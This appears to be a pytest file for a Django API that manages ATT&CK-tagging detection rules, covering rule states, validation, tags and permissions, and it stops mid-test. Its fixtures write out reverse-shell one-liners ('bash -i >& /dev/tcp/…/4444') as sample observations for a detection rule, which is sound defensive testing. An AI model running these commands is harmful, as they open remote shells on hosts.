"""The TTP endpoints (WIRE.md §8.4) through the HTTP API: rules, states, validate, tags, the Navigator layer."""

from __future__ import annotations

import hashlib
import textwrap
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from stigmem.models import AuditEvent, Event, Fact
from stigmem.node import node_authority
from ttprules import engine
from ttprules.models import Rule, RuleState, RuleStateChange, RuleStats, Tag
from ttprules.schema import parse_rule
from ttprules.store import set_state

from .engine_helpers import (
    DNS_ANYTHING,
    HOST,
    REVERSE_SHELL,
    SENSOR,
    SHELL,
    load_rules,
    observe,
    run_engine,
    write_rule,
)

OTHER_HOST = "stigmem://acme/host/db-1"
ADMIN = "stigmem://test/agent/admin"
BROKEN = "rule_id: BAD\nrule_version: 0\n"

RULES = "/v1/ttp/rules"
VALIDATE = "/v1/ttp/rules/validate"
TAGS = "/v1/ttp/tags"
NAVIGATOR = "/v1/ttp/navigator"

ENABLED = {
    "state": "enabled",
    "confidence_max": None,
    "expires_at": None,
    "set_by": None,
    "set_at": None,
    "reason": None,
}
NO_STATS = {
    "matched": 0,
    "tags": 0,
    "shadow_tags": 0,
    "dropped": 0,
    "errors": 0,
    "last_matched_at": None,
    "last_error": None,
}
NOT_FOUND = {"detail": "rule not found"}
NOT_AUTHENTICATED = {"detail": "authentication required: send 'Authorization: Bearer <api key>'"}
ADMIN_REQUIRED = {"detail": "admin permission required"}
CURSOR_INVALID = {"detail": {"code": "cursor_invalid", "message": "cursor is malformed or was not issued by this node"}}


@pytest.fixture
def rule_dir(tmp_path, db):
    directory = load_rules(tmp_path / "rules", R1=REVERSE_SHELL, D1=DNS_ANYTHING)
    (directory / "BAD.yaml").write_text(BROKEN)
    load_rules(directory)
    return directory


@pytest.fixture
def reader(make_client):
    return make_client(["read"], entity="stigmem://test/agent/reader")


def snapshot() -> tuple:
    """What a refused request must leave exactly as it was."""
    return (
        list(RuleState.objects.order_by("rule_id").values()),
        RuleStateChange.objects.count(),
        Event.objects.count(),
        AuditEvent.objects.count(),
        list(Rule.objects.order_by("rule_id").values_list("rule_id", "content_sha256", "valid", "updated_at")),
        Tag.objects.count(),
        Fact.objects.count(),
    )


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def expected_record(rule_dir, rule_id: str, *, state: dict | None = None, stats: dict | None = None) -> dict:
    row = Rule.objects.get(rule_id=rule_id)
    base = {
        "rule_id": rule_id,
        "file_name": f"{rule_id}.yaml",
        "content_sha256": sha256(rule_dir / f"{rule_id}.yaml"),
        "loaded_at": row.loaded_at.isoformat(),
        "updated_at": row.updated_at.isoformat(),
        "state": state or ENABLED,
        "stats": stats or NO_STATS,
        "warnings": [],
    }
    if rule_id == "R1":
        return base | {
            "rule_version": 1,
            "name": "reverse_shell_R1",
            "description": "",
            "valid": True,
            "errors": [],
            "applies_to": ["observed:command"],
            "emits": [
                {"tactic": "TA0002", "technique_id": "T1059", "sub_technique_id": "T1059.004", "confidence": 0.9}
            ],
            "evidence_fields": ["entity", "value.v"],
        }
    if rule_id == "D1":
        return base | {
            "rule_version": 1,
            "name": "any_dns_D1",
            "description": "",
            "valid": True,
            "errors": [],
            "applies_to": ["observed:dns*"],
            "emits": [
                {"tactic": "TA0011", "technique_id": "T1071", "sub_technique_id": "T1071.004", "confidence": 0.5}
            ],
            "evidence_fields": ["value.v"],
        }
    assert rule_id == "BAD"
    return base | {
        "rule_version": None,
        "name": None,
        "description": None,
        "valid": False,
        "errors": [str(e) for e in parse_rule(BROKEN, "BAD.yaml").errors],
        "applies_to": None,
        "emits": None,
        "evidence_fields": None,
    }


def later(**delta) -> datetime:
    return timezone.now() + timedelta(**delta)


def assert_422(response, detail: list) -> None:
    assert response.status_code == 422, response.content
    assert response.json() == {"detail": detail}


# --- GET /v1/ttp/rules ---------------------------------------------------------------------------


def test_the_list_holds_every_stored_rule_with_validity_state_and_stats(reader, rule_dir):
    response = reader.get(RULES)
    assert response.status_code == 200
    assert response.json() == {
        "rules": [expected_record(rule_dir, rule_id) for rule_id in ("BAD", "D1", "R1")],
        "total": 3,
    }
    assert expected_record(rule_dir, "BAD")["errors"]  # the invalid rule says why


def test_the_list_shows_states_and_the_engines_counters(client, reader, rule_dir):
    observe(client)
    run_engine()
    expires = later(hours=1)
    set_state("D1", "clipped", confidence_max=0.4, expires_at=expires, reason="noisy", set_by="cli:ops")

    rules = {r["rule_id"]: r for r in reader.get(RULES).json()["rules"]}

    state = RuleState.objects.get(rule_id="D1")
    assert rules["D1"]["state"] == {
        "state": "clipped",
        "confidence_max": 0.4,
        "expires_at": expires.isoformat(),
        "set_by": "cli:ops",
        "set_at": state.set_at.isoformat(),
        "reason": "noisy",
    }
    stats = RuleStats.objects.get(rule_id="R1")
    assert rules["R1"]["stats"] == {
        "matched": 1,
        "tags": 1,
        "shadow_tags": 0,
        "dropped": 0,
        "errors": 0,
        "last_matched_at": stats.last_matched_at.isoformat(),
        "last_error": None,
    }
    assert rules["R1"]["state"] == ENABLED and rules["D1"]["stats"] == NO_STATS


def test_rules_are_node_wide_any_tenants_reader_sees_them(make_client, rule_dir):
    foreign = make_client(["read"], tenant="other")
    body = foreign.get(RULES).json()
    assert [r["rule_id"] for r in body["rules"]] == ["BAD", "D1", "R1"]


def test_no_rules_is_an_empty_list(reader):
    assert reader.get(RULES).json() == {"rules": [], "total": 0}


def test_reading_rules_needs_credentials_and_read(anon, make_client, rule_dir):
    response = anon.get(RULES)
    assert response.status_code == 401
    assert response.json() == NOT_AUTHENTICATED
    assert response["WWW-Authenticate"] == "Bearer"
    assert anon.get(f"{RULES}/R1").status_code == 401
    writer = make_client(["write"])
    assert writer.get(RULES).status_code == 403
    assert writer.get(RULES).json() == {"detail": "read permission required"}


# --- GET /v1/ttp/rules/{rule_id} -----------------------------------------------------------------


def test_one_rule_with_its_source_and_history_newest_first(reader, admin_client, rule_dir):
    admin_client.put(f"{RULES}/R1/state", {"state": "disabled", "reason": "first"}, format="json")
    admin_client.put(f"{RULES}/R1/state", {"state": "shadow", "reason": "second"}, format="json")

    response = reader.get(f"{RULES}/R1")

    assert response.status_code == 200
    first, second = RuleStateChange.objects.filter(rule_id="R1").order_by("id")
    state = RuleState.objects.get(rule_id="R1")
    shadow = {
        "state": "shadow",
        "confidence_max": None,
        "expires_at": None,
        "set_by": ADMIN,
        "set_at": state.set_at.isoformat(),
        "reason": "second",
    }
    assert response.json() == expected_record(rule_dir, "R1", state=shadow) | {
        "source": (rule_dir / "R1.yaml").read_text(),
        "history": [
            {
                "from_state": "disabled",
                "to_state": "shadow",
                "confidence_max": None,
                "expires_at": None,
                "set_by": ADMIN,
                "set_at": second.set_at.isoformat(),
                "reason": "second",
                "cause": "operator",
            },
            {
                "from_state": "enabled",
                "to_state": "disabled",
                "confidence_max": None,
                "expires_at": None,
                "set_by": ADMIN,
                "set_at": first.set_at.isoformat(),
                "reason": "first",
                "cause": "operator",
            },
        ],
    }


def test_an_invalid_rule_is_readable_with_its_errors_and_source(reader, rule_dir):
    body = reader.get(f"{RULES}/BAD").json()
    assert body == expected_record(rule_dir, "BAD") | {"source": BROKEN, "history": []}


def test_the_history_holds_the_last_50_changes(reader, rule_dir):
    for index in range(55):
        set_state("R1", "disabled", reason=f"change {index}", set_by="cli:ops")
    history = reader.get(f"{RULES}/R1").json()["history"]
    assert [h["reason"] for h in history] == [f"change {index}" for index in range(54, 4, -1)]


@pytest.mark.parametrize("rule_id", ["R2", "r1", "R1.yaml", "R%00", "R-1", "x" * 65])
def test_an_unknown_rule_is_404(reader, rule_dir, rule_id):
    response = reader.get(f"{RULES}/{rule_id}")
    assert response.status_code == 404
    assert response.json() == NOT_FOUND


def test_a_rule_named_validate_is_readable(reader, rule_dir):
    write_rule(rule_dir, REVERSE_SHELL, "validate")
    load_rules(rule_dir)
    response = reader.get(f"{RULES}/validate")
    assert response.status_code == 200
    assert response.json()["rule_id"] == "validate"


# --- PUT / DELETE /v1/ttp/rules/{rule_id}/state --------------------------------------------------


def test_setting_a_state_records_it_and_answers_the_record(admin_client, rule_dir):
    expires = later(days=1).replace(microsecond=0)
    response = admin_client.put(
        f"{RULES}/R1/state",
        {"state": "clipped", "confidence_max": 0.5, "expires_at": expires.isoformat(), "reason": "too loud"},
        format="json",
    )

    assert response.status_code == 200, response.content
    row = RuleState.objects.get(rule_id="R1")
    state = {
        "state": "clipped",
        "confidence_max": 0.5,
        "expires_at": expires.isoformat(),
        "set_by": ADMIN,
        "set_at": row.set_at.isoformat(),
        "reason": "too loud",
    }
    assert response.json() == expected_record(rule_dir, "R1", state=state)
    (change,) = RuleStateChange.objects.all()
    assert (change.from_state, change.to_state, change.set_by, change.cause) == (
        "enabled",
        "clipped",
        ADMIN,
        "operator",
    )
    assert Event.objects.filter(topic="ttp.rule.state.R1").count() == 1
    assert AuditEvent.objects.filter(event_type="ttp_rule_state", actor=ADMIN, target="R1").count() == 1


def test_a_state_round_trip_put_get_delete(admin_client, reader, rule_dir):
    assert admin_client.put(f"{RULES}/R1/state", {"state": "disabled"}, format="json").status_code == 200
    assert reader.get(f"{RULES}/R1").json()["state"]["state"] == "disabled"
    assert reader.get(RULES).json()["rules"][2]["state"]["state"] == "disabled"

    response = admin_client.delete(f"{RULES}/R1/state?reason=fixed%20the%20noise")

    assert response.status_code == 200
    row = RuleState.objects.get(rule_id="R1")
    enabled = {
        "state": "enabled",
        "confidence_max": None,
        "expires_at": None,
        "set_by": ADMIN,
        "set_at": row.set_at.isoformat(),
        "reason": "fixed the noise",
    }
    assert response.json() == expected_record(rule_dir, "R1", state=enabled)
    assert reader.get(f"{RULES}/R1").json()["state"] == enabled
    history = reader.get(f"{RULES}/R1").json()["history"]
    assert [(h["from_state"], h["to_state"]) for h in history] == [("disabled", "enabled"), ("enabled", "disabled")]
    assert Event.objects.filter(topic="ttp.rule.state.R1").count() == 2


def test_delete_without_a_reason_and_without_a_state_still_records_the_action(admin_client, rule_dir):
    response = admin_client.delete(f"{RULES}/R1/state")
    assert response.status_code == 200
    assert response.json()["state"]["reason"] == ""
    assert RuleStateChange.objects.get().to_state == "enabled"


def test_an_invalid_rule_can_be_disabled(admin_client, rule_dir):
    response = admin_client.put(f"{RULES}/BAD/state", {"state": "disabled"}, format="json")
    assert response.status_code == 200
    assert response.json()["state"]["state"] == "disabled"


def test_a_naive_expiry_is_utc(admin_client, rule_dir):
    expires = later(hours=2).astimezone(UTC).replace(tzinfo=None, microsecond=0)
    response = admin_client.put(
        f"{RULES}/R1/state", {"state": "shadow", "expires_at": expires.isoformat()}, format="json"
    )
    assert response.status_code == 200
    assert response.json()["state"]["expires_at"] == expires.replace(tzinfo=UTC).isoformat()


def test_null_optional_fields_are_absent_fields(admin_client, rule_dir):
    body = {"state": "disabled", "confidence_max": None, "expires_at": None, "reason": None}
    response = admin_client.put(f"{RULES}/R1/state", body, format="json")
    assert response.status_code == 200
    assert response.json()["state"] | {"set_at": None} == {
        "state": "disabled",
        "confidence_max": None,
        "expires_at": None,
        "set_by": ADMIN,
        "set_at": None,
        "reason": "",
    }


@pytest.mark.parametrize(
    ("body", "detail"),
    [
        ([], [{"loc": ["body"], "msg": "expected a JSON object", "type": "dict_type"}]),
        ("disabled", [{"loc": ["body"], "msg": "expected a JSON object", "type": "dict_type"}]),
        ({}, [{"loc": ["body", "state"], "msg": "field required", "type": "missing"}]),
        ({"state": 1}, [{"loc": ["body", "state"], "msg": "state must be a string", "type": "string_type"}]),
        (
            # Unknown fields are ignored (WIRE.md §1): a misspelt confidence_max is a missing one.
            {"state": "clipped", "confidence_maximum": 0.5},
            [
                {
                    "loc": ["body", "confidence_max"],
                    "msg": "confidence_max is required for the clipped state",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "off"},
            [
                {
                    "loc": ["body", "state"],
                    "msg": "state must be one of enabled, disabled, clipped, shadow, got 'off'",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "clipped"},
            [
                {
                    "loc": ["body", "confidence_max"],
                    "msg": "confidence_max is required for the clipped state",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "clipped", "confidence_max": 1.5},
            [
                {
                    "loc": ["body", "confidence_max"],
                    "msg": "confidence_max must be greater than 0 and at most 1, got 1.5",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "clipped", "confidence_max": 0},
            [
                {
                    "loc": ["body", "confidence_max"],
                    "msg": "confidence_max must be greater than 0 and at most 1, got 0",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "clipped", "confidence_max": True},
            [{"loc": ["body", "confidence_max"], "msg": "confidence_max must be a number", "type": "float_type"}],
        ),
        (
            {"state": "clipped", "confidence_max": "0.5"},
            [{"loc": ["body", "confidence_max"], "msg": "confidence_max must be a number", "type": "float_type"}],
        ),
        (
            {"state": "disabled", "confidence_max": 0.5},
            [
                {
                    "loc": ["body", "confidence_max"],
                    "msg": "confidence_max applies to the clipped state only, not to disabled",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "disabled", "expires_at": "2001-01-01T00:00:00+00:00"},
            [{"loc": ["body", "expires_at"], "msg": "expires_at must be in the future", "type": "value_error"}],
        ),
        (
            {"state": "disabled", "expires_at": "tomorrow"},
            [
                {
                    "loc": ["body", "expires_at"],
                    "msg": "expires_at must be an ISO-8601 datetime",
                    "type": "datetime_parsing",
                }
            ],
        ),
        (
            {"state": "disabled", "expires_at": 1893456000},
            [
                {
                    "loc": ["body", "expires_at"],
                    "msg": "expires_at must be an ISO-8601 datetime",
                    "type": "datetime_parsing",
                }
            ],
        ),
        (
            {"state": "enabled", "expires_at": "2999-01-01T00:00:00+00:00"},
            [
                {
                    "loc": ["body", "expires_at"],
                    "msg": "expires_at does not apply to enabled, the state rules revert to",
                    "type": "value_error",
                }
            ],
        ),
        (
            {"state": "disabled", "reason": 7},
            [{"loc": ["body", "reason"], "msg": "reason must be a string", "type": "string_type"}],
        ),
        (
            {"state": "disabled", "reason": "x" * 2001},
            [{"loc": ["body", "reason"], "msg": "reason must be at most 2000 characters", "type": "value_error"}],
        ),
        (
            {"state": "disabled", "reason": "a\x00b"},
            [{"loc": ["body", "reason"], "msg": "reason must not contain NUL characters", "type": "string_unicode"}],
        ),
        (
            {"state": 5, "confidence_max": "high", "expires_at": [], "reason": {}, "extra": 1},
            [
                {"loc": ["body", "state"], "msg": "state must be a string", "type": "string_type"},
                {"loc": ["body", "confidence_max"], "msg": "confidence_max must be a number", "type": "float_type"},
                {
                    "loc": ["body", "expires_at"],
                    "msg": "expires_at must be an ISO-8601 datetime",
                    "type": "datetime_parsing",
                },
                {"loc": ["body", "reason"], "msg": "reason must be a string", "type": "string_type"},
            ],
        ),
    ],
)
def test_bad_state_bodies_are_422_and_write_nothing(admin_client, rule_dir, body, detail):
    before = snapshot()
    assert_422(admin_client.put(f"{RULES}/R1/state", body, format="json"), detail)
    assert snapshot() == before


def test_malformed_json_is_422_and_writes_nothing(admin_client, rule_dir):
    before = snapshot()
    response = admin_client.put(f"{RULES}/R1/state", "{not json", content_type="application/json")
    assert response.status_code == 422
    assert response.json()["detail"][0]["type"] == "json_invalid"
    assert snapshot() == before


def test_an_unknown_rules_state_is_404_and_writes_nothing(admin_client, rule_dir):
    before = snapshot()
    for method in (admin_client.put, admin_client.delete):
        response = method(f"{RULES}/R9/state", {"state": "disabled"}, format="json")
        assert response.status_code == 404
        assert response.json() == NOT_FOUND
    assert snapshot() == before


def test_a_state_kept_for_a_rule_whose_file_is_gone_is_404(admin_client, rule_dir):
    set_state("R1", "disabled", set_by="cli:ops")
    (rule_dir / "R1.yaml").unlink()
    load_rules(rule_dir)
    before = snapshot()
    assert admin_client.delete(f"{RULES}/R1/state").status_code == 404
    assert admin_client.put(f"{RULES}/R1/state", {"state": "enabled"}, format="json").status_code == 404
    assert snapshot() == before


def test_a_too_long_or_nul_delete_reason_is_422_and_writes_nothing(admin_client, rule_dir):
    before = snapshot()
    assert_422(
        admin_client.delete(f"{RULES}/R1/state?reason={'x' * 2001}"),
        [{"loc": ["query", "reason"], "msg": "reason must be at most 2000 characters", "type": "value_error"}],
    )
    assert_422(
        admin_client.delete(f"{RULES}/R1/state?reason=a%00b"),
        [{"loc": ["query", "reason"], "msg": "reason must not contain NUL characters", "type": "string_unicode"}],
    )
    assert snapshot() == before


@pytest.mark.parametrize("permissions", [["read"], ["read", "write"], ["read", "write", "federate", "audit.read"]])
def test_changing_states_needs_admin(make_client, rule_dir, permissions):
    caller = make_client(permissions)
    before = snapshot()
    for response in (
        caller.put(f"{RULES}/R1/state", {"state": "disabled"}, format="json"),
        caller.delete(f"{RULES}/R1/state"),
        caller.put(f"{RULES}/R9/state", {"state": "disabled"}, format="json"),
    ):
        assert response.status_code == 403
        assert response.json() == ADMIN_REQUIRED
    assert snapshot() == before


def test_changing_states_needs_credentials(anon, rule_dir):
    before = snapshot()
    assert anon.put(f"{RULES}/R1/state", {"state": "disabled"}, format="json").status_code == 401
    assert anon.delete(f"{RULES}/R1/state").status_code == 401
    assert snapshot() == before


def test_an_admin_of_another_tenant_changes_the_node_wide_state(make_client, rule_dir):
    foreign = make_client(["admin"], tenant="other", entity="stigmem://other/agent/ops")
    assert foreign.put(f"{RULES}/R1/state", {"state": "disabled"}, format="json").status_code == 200
    assert RuleState.objects.get(rule_id="R1").set_by == "stigmem://other/agent/ops"
    # Audit rows and events of rule states go to the operator's tenant (ttprules.models).
    assert Event.objects.get(topic="ttp.rule.state.R1").tenant == "default"


# --- POST /v1/ttp/rules/validate ------------------------------------------------------------------


def doc(template: str = REVERSE_SHELL, **values) -> str:
    values = {"rule_id": "R9", "version": 1, "confidence": 0.9, **values}
    return textwrap.dedent(template.format(**values)).lstrip()


def sample(value: str = SHELL, relation: str = "observed:command", **extra) -> dict:
    return {"entity": HOST, "relation": relation, "value": {"type": "string", "v": value}, "source": SENSOR, **extra}


def test_validate_a_valid_rule_with_sample_facts(admin_client, rule_dir):
    before = snapshot()
    rules = Rule.objects.count()
    body = {
        "yaml": doc(),
        "facts": [
            sample(entity="stigmem://ACME/host/Web-1"),  # read like an assert body: normalized
            sample("ls -la"),
            sample(relation="observed:dns_query"),
            sample(confidence=0),  # a retraction: never evaluated
            sample(source=f"stigmem://{node_authority()}/rule/r1"),  # a rule's own fact: never evaluated
            {**sample(), "id": "pasted", "timestamp": "2026-01-01T00:00:00+00:00", "hlc": "x"},  # extra fields ignored
        ],
    }

    response = admin_client.post(VALIDATE, body, format="json")

    assert response.status_code == 200, response.content
    tag = {"tactic": "TA0002", "technique_id": "T1059", "sub_technique_id": "T1059.004", "confidence": 0.9}
    matched = {"applies": True, "matched": True, "tags": [tag], "evidence": {"entity": HOST, "value.v": SHELL}}
    unmatched = {"matched": False, "tags": [], "evidence": None}
    assert response.json() == {
        "valid": True,
        "errors": [],
        "warnings": [],
        "results": [
            {"index": 0, **matched},
            {"index": 1, "applies": True, **unmatched},
            {"index": 2, "applies": False, **unmatched},
            {"index": 3, "applies": False, **unmatched},
            {"index": 4, "applies": False, **unmatched},
            {"index": 5, **matched},
        ],
    }
    assert Rule.objects.count() == rules
    assert snapshot() == before


def test_validate_without_facts_has_no_results(admin_client, db):
    response = admin_client.post(VALIDATE, {"yaml": doc()}, format="json")
    assert response.json() == {"valid": True, "errors": [], "warnings": [], "results": []}


def test_validate_an_invalid_rule(admin_client, db):
    text = "rule_id: R9\nrule_version: 0\nname: x\napplies_to: []\nmatch: {field: nope, regex: '('}\nemits: []\n"
    response = admin_client.post(VALIDATE, {"yaml": text, "facts": [sample()]}, format="json")
    assert response.status_code == 200
    expected = [str(e) for e in parse_rule(text, "R9.yaml").errors]
    assert expected and all(e.startswith("line ") for e in expected)
    assert response.json() == {"valid": False, "errors": expected, "warnings": [], "results": None}


def test_validate_reports_broken_yaml(admin_client, db):
    body = admin_client.post(VALIDATE, {"yaml": "rule_id: [unclosed\n"}, format="json").json()
    assert body["valid"] is False and body["results"] is None
    assert len(body["errors"]) == 1 and body["errors"][0].startswith("line ")


def test_validate_an_empty_document(admin_client, db):
    body = admin_client.post(VALIDATE, {"yaml": ""}, format="json").json()
    assert body == {"valid": False, "errors": ["line 1: rule file is empty"], "warnings": [], "results": None}


def test_validate_drops_tags_under_the_floor_as_the_engine_does(admin_client, db):
    text = doc() + "  - tactic: TA0002\n    technique_id: T1059\n    confidence: 0.2\n"
    text = text.replace("evidence_fields: [entity, value.v]\n", "") + "evidence_fields: [entity, value.v]\n"
    response = admin_client.post(VALIDATE, {"yaml": text, "facts": [sample()]}, format="json")
    body = response.json()
    assert body["valid"] is True, body
    assert body["results"][0]["tags"] == [
        {"tactic": "TA0002", "technique_id": "T1059", "sub_technique_id": "T1059.004", "confidence": 0.9}
    ]


def test_validate_ignores_the_stored_rules_state(admin_client, rule_dir):
    set_state("R1", "clipped", confidence_max=0.4, set_by="cli:ops")
    response = admin_client.post(VALIDATE, {"yaml": doc(rule_id="R1"), "facts": [sample()]}, format="json")
    assert response.json()["results"][0]["tags"][0]["confidence"] == 0.9


def test_validate_sees_sample_values_and_gardens_as_stored(admin_client, db):
    text = """\
        rule_id: G1
        rule_version: 1
        name: garden_numbers
        applies_to: ["observed:port"]
        match:
          all:
            - {field: value.v, equals: "4444"}
            - {field: garden_id, startswith: "stigmem://"}
        emits:
          - {tactic: TA0011, technique_id: T1571, confidence: 0.7}
        evidence_fields: [value.v, garden_id]
    """
    fact = {
        "entity": HOST,
        "relation": "observed:port",
        "value": {"type": "number", "v": 4444},
        "source": SENSOR,
        "garden_id": "stigmem://Elsewhere/garden/Ops",
    }
    response = admin_client.post(VALIDATE, {"yaml": textwrap.dedent(text), "facts": [fact]}, format="json")
    (result,) = response.json()["results"]
    assert result["matched"] is True
    assert result["evidence"] == {"value.v": "4444", "garden_id": f"stigmem://{node_authority()}/garden/ops"}


def test_validate_reads_the_file_name_from_the_rule_id_or_uses_the_given_one(admin_client, db):
    def errors(**body):
        return admin_client.post(VALIDATE, body, format="json").json()["errors"]

    assert errors(yaml=doc(rule_id="R42")) == []
    assert errors(yaml=doc(rule_id="R42"), filename="R42.yml") == []
    assert errors(yaml=doc(rule_id="R42"), filename="R43.yaml") == [
        "line 1: rule_id 'R42' must equal the file name stem 'R43'"
    ]
    # Without a usable rule_id the file is rule.yaml, so the schema names the problem.
    assert errors(yaml=doc(rule_id="'R 42'")) == [
        "line 1: rule_id 'R 42' may contain only letters, digits and underscores"
    ]
    no_id = doc().replace("rule_id: R9\n", "")
    assert errors(yaml=no_id) == ["line 1: missing required key 'rule_id'"]
    # A name sync would ignore is reported like `manage.py ttprules validate` does.
    assert errors(yaml=doc(rule_id="R42"), filename="R42.txt") == [
        "line 1: the file name must be <rule_id>.yaml or .yml; sync ignores this file"
    ]


def test_validate_takes_64_kib_of_yaml_and_100_facts(admin_client, db):
    padding = "#" * (64 * 1024 - len(doc()) - 1) + "\n"
    text = doc() + padding
    assert len(text.encode()) == 64 * 1024
    response = admin_client.post(VALIDATE, {"yaml": text, "facts": [sample()] * 100}, format="json")
    assert response.status_code == 200
    body = response.json()
    assert body["valid"] is True and len(body["results"]) == 100


@pytest.mark.parametrize(
    ("body", "detail"),
    [
        ([], [{"loc": ["body"], "msg": "expected a JSON object", "type": "dict_type"}]),
        ({}, [{"loc": ["body", "yaml"], "msg": "field required", "type": "missing"}]),
        ({"yaml": 3}, [{"loc": ["body", "yaml"], "msg": "yaml must be a string", "type": "string_type"}]),
        ({"yaml": None}, [{"loc": ["body", "yaml"], "msg": "yaml must be a string", "type": "string_type"}]),
        (
            {"yaml": "#" * (64 * 1024 + 1)},
            [{"loc": ["body", "yaml"], "msg": "yaml must be at most 64 KiB", "type": "string_too_long"}],
        ),
        (
            {"yaml": "#" + "é" * (32 * 1024)},  # 32K characters, 64 KiB + 1 byte of UTF-8
            [{"loc": ["body", "yaml"], "msg": "yaml must be at most 64 KiB", "type": "string_too_long"}],
        ),
        (
            {"yaml": "a\x00"},
            [{"loc": ["body", "yaml"], "msg": "yaml must not contain NUL characters", "type": "string_unicode"}],
        ),
        (
            {"yaml": "x", "filename": 1},
            [{"loc": ["body", "filename"], "msg": "filename must be a string", "type": "string_type"}],
        ),
        (
            {"yaml": "x", "filename": "a" * 256},
            [
                {
                    "loc": ["body", "filename"],
                    "msg": "filename must be at most 255 characters",
                    "type": "string_too_long",
                }
            ],
        ),
        (
            {"yaml": "x", "facts": {"entity": HOST}},
            [{"loc": ["body", "facts"], "msg": "facts must be a list of fact objects", "type": "list_type"}],
        ),
        (
            {"yaml": "x", "facts": [sample()] * 101},
            [{"loc": ["body", "facts"], "msg": "facts must hold at most 100 facts", "type": "too_long"}],
        ),
        (
            {"yaml": "x", "facts": [sample(), "fact"]},
            [{"loc": ["body", "facts", 1], "msg": "expected a JSON object", "type": "dict_type"}],
        ),
        (
            {"yaml": "x", "facts": [{"relation": "observed:command", "value": {"type": "string", "v": "x"}}]},
            [
                {
                    "loc": ["body", "facts", 0, "entity"],
                    "msg": "entity must be a non-empty string",
                    "type": "string_type",
                },
                {
                    "loc": ["body", "facts", 0, "source"],
                    "msg": "source must be a non-empty string",
                    "type": "string_type",
                },
            ],
        ),
        (
            {"yaml": "x", "facts": [sample(), {**sample(), "value": {"type": "number", "v": "4"}, "confidence": 2}]},
            [
                {
                    "loc": ["body", "facts", 1, "value", "v"],
                    "msg": "number value must be a JSON number",
                    "type": "number_type",
                },
                {
                    "loc": ["body", "facts", 1, "confidence"],
                    "msg": "confidence must be a number from 0.0 to 1.0",
                    "type": "confidence_range",
                },
            ],
        ),
    ],
)
def test_bad_validate_bodies_are_422_and_store_nothing(admin_client, rule_dir, body, detail):
    before = snapshot()
    assert_422(admin_client.post(VALIDATE, body, format="json"), detail)
    assert snapshot() == before


@pytest.mark.parametrize("permissions", [["read"], ["read", "write"]])
def test_validating_needs_admin(make_client, db, permissions):
    response = make_client(permissions).post(VALIDATE, {"yaml": doc()}, format="json")
    assert response.status_code == 403
    assert response.json() == ADMIN_REQUIRED


def test_validating_needs_credentials(anon, db):
    response = anon.post(VALIDATE, {"yaml": doc()}, format="json")
    assert response.status_code == 401
    assert response.json() == NOT_AUTHENTICATED


# --- GET /v1/ttp/tags ----------------------------------------------------------------------------


def expected_tag(fact: dict, rule_id: str = "R1") -> dict:
    tag = Tag.objects.get(fact_id=fact["id"], rule_id=rule_id)
    if rule_id == "R1":
        technique, sub, tactic, confidence = "T1059", "T1059.004", "TA0002", 0.9
        evidence = {"entity": fact["entity"], "value.v": fact["value"]["v"]}
    else:
        technique, sub, tactic, confidence = "T1071", "T1071.004", "TA0011", 0.5
        evidence = {"value.v": fact["value"]["v"]}
    name = f"{fact['id']}|{rule_id}|1|{technique}|{sub}"
    return {
        "id": str(uuid.uuid5(engine.TAG_NAMESPACE, name)),
        "fact_id": fact["id"],
        "entity": fact["entity"],
        "rule_id": rule_id,
        "rule_version": 1,
        "tactic": tactic,
        "technique_id": technique,
        "sub_technique_id": sub,
        "confidence": confidence,
        "evidence": evidence,
        "attack_version": "18.1",
        "created_at": tag.created_at.isoformat(),
    }


@pytest.fixture
def tagged(client, rule_dir):
    """Three tags: R1 on HOST (first batch), then R1 on OTHER_HOST and D1 on HOST (second batch)."""
    first = observe(client)
    run_engine()
    second = observe(client, "sh -i >& /dev/tcp/10.0.0.7/53", entity=OTHER_HOST)
    dns = observe(client, "evil.example", relation="observed:dns_query")
    run_engine()
    return first, second, dns


def test_tags_newest_first_with_exact_records(reader, tagged):
    first, second, dns = tagged
    response = reader.get(TAGS)
    assert response.status_code == 200
    newest = sorted([expected_tag(second), expected_tag(dns, "D1")], key=lambda t: t["id"], reverse=True)
    assert response.json() == {"tags": [*newest, expected_tag(first)], "cursor": None, "has_more": False}


def test_tags_filtered_by_entity_technique_and_rule(reader, tagged):
    first, second, dns = tagged

    def ids(**params):
        response = reader.get(TAGS, params)
        assert response.status_code == 200, response.content
        return sorted(t["fact_id"] for t in response.json()["tags"])

    assert ids(entity="stigmem://ACME/Host/WEB-1") == sorted([first["id"], dns["id"]])  # normalized
    assert ids(entity=OTHER_HOST) == [second["id"]]
    assert ids(entity="stigmem://acme/host/none") == []
    assert ids(technique="T1059") == sorted([first["id"], second["id"]])  # with its sub-techniques
    assert ids(technique="T1059.004") == sorted([first["id"], second["id"]])
    assert ids(technique="T1059.001") == []
    assert ids(technique="T1071") == [dns["id"]]
    assert ids(rule_id="D1") == [dns["id"]]
    assert ids(rule_id="R1", entity=HOST) == [first["id"]]
    assert ids(rule_id="R1", technique="T1071") == []


def test_tags_page_through_a_keyset_cursor_without_repeats(client, reader, rule_dir):
    facts = [observe(client, f"bash -i >& /dev/tcp/10.0.0.{index}/4444") for index in range(5)]
    run_engine()  # one batch: the tags share created_at, the id breaks the tie
    facts += [observe(client, f"bash -i >& /dev/tcp/10.0.1.{index}/4444") for index in range(3)]
    run_engine()

    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        params = {"limit": 3, **({"cursor": cursor} if cursor else {})}
        body = reader.get(TAGS, params).json()
        pages += 1
        seen += [t["id"] for t in body["tags"]]
        assert body["has_more"] is (body["cursor"] is not None)
        if not body["has_more"]:
            break
        assert len(body["tags"]) == 3
        cursor = body["cursor"]
    assert pages == 3
    assert len(seen) == len(set(seen)) == 8
    ordered = list(Tag.objects.order_by("-created_at", "-id").values_list("id", flat=True))
    assert seen == [str(tag_id) for tag_id in ordered]
    assert {t.fact_id for t in Tag.objects.all()} == {uuid.UUID(f["id"]) for f in facts}


def test_the_default_page_is_50(client, reader, rule_dir):
    for index in range(51):
        observe(client, f"bash -i >& /dev/tcp/10.1.0.{index}/4444")
    run_engine()
    body = reader.get(TAGS).json()
